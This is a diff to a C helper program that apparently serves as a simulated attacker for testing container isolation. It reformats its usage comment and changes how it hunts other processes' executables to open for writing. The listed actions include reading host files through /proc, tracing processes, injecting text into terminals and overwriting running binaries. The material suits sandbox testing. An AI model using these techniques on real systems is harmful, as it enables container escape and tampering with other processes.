@@ -1,18 +1,24 @@
 /* SPDX-License-Identifier: Apache-2.0 */
+/* clang-format off */
 /* attacker WHAT...: what hostile processes do, in a container or beside it. Linked statically, for
- *images.
+ * images.
  *
  *	flip A B          exchanges two names for ever
  *	look FILE         opens FILE, which is the host's, by the root, working directory and
- *descriptors of each process that comes next, and its memory for writing seize MASK        traces
- *each process that comes next, and says which of its capabilities are not in MASK kill | stop sends
- *that signal to each process that comes next forge             traces each process that comes next,
- *and shrinks, then scribbles over, the page that it shares with tare type TEXT         pushes TEXT
- *into the terminal on descriptor 0, and into the controlling one overwrite         opens the
- *executables of all processes for writing, for ever send SOCKET TEXT  sends a datagram
+ *	                  descriptors of each process that comes next, and its memory for writing
+ *	seize MASK        traces each process that comes next, and says which of its capabilities
+ *	                  are not in MASK
+ *	kill | stop       sends that signal to each process that comes next
+ *	forge             traces each process that comes next, and shrinks, then scribbles over,
+ *	                  the page that it shares with tare
+ *	type TEXT         pushes TEXT into the terminal on descriptor 0, and into the controlling one
+ *	overwrite         opens for writing, for ever, the executables of all processes that are not
+ *	                  files of the image
+ *	send SOCKET TEXT  sends a datagram
  *
  * Those that watch say "ready" first, "met N" of the first process that they saw, and "FOUND ..."
- *of what they got. */
+ * of what they got. */
+/* clang-format on */
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <errno.h>
@@ -222,21 +228,37 @@ static int type(const char *text)
 	return 0;
 }
 
+/* Is the executable of the process one that the image has under that name? Several times, because
+ * the name may be exchanged meanwhile. */
+static int is_the_images(const char *exe, const struct stat *st)
+{
+	for (int tries = 64; tries; tries--) {
+		char name[512];
+		ssize_t length = readlink(exe, name, sizeof name - 1);
+		struct stat named;
+
+		name[length > 0 ? length : 0] = '\0';
+		if (!stat(name, &named) && named.st_dev == st->st_dev &&
+		    named.st_ino == st->st_ino)
+			return 1;
+	}
+	return 0;
+}
+
 /* While it is executed, an open for writing fails with ETXTBSY: a descriptor of it is kept, and
  * tried again. */
 static int overwrite(void)
 {
 	int kept[64], n = 0;
-	struct stat own, st;
+	struct stat st;
 	char path[64];
 
-	stat("/proc/self/exe", &own);
 	say("ready");
-	for (pid_t self = getpid();;) {
+	for (;;) {
 		for (pid_t pid = 1, last = last_pid(); pid <= last + 2; pid++) {
 			snprintf(path, sizeof path, "/proc/%d/exe", pid);
-			int fd = pid == self ? -1 : open(path, O_RDONLY | O_CLOEXEC);
-			if (fd < 0 || fstat(fd, &st) || st.st_ino == own.st_ino || n == 64)
+			int fd = open(path, O_RDONLY | O_CLOEXEC);
+			if (fd < 0 || fstat(fd, &st) || is_the_images(path, &st) || n == 64)
 				close(fd);
 			else
 				kept[n++] = fd;
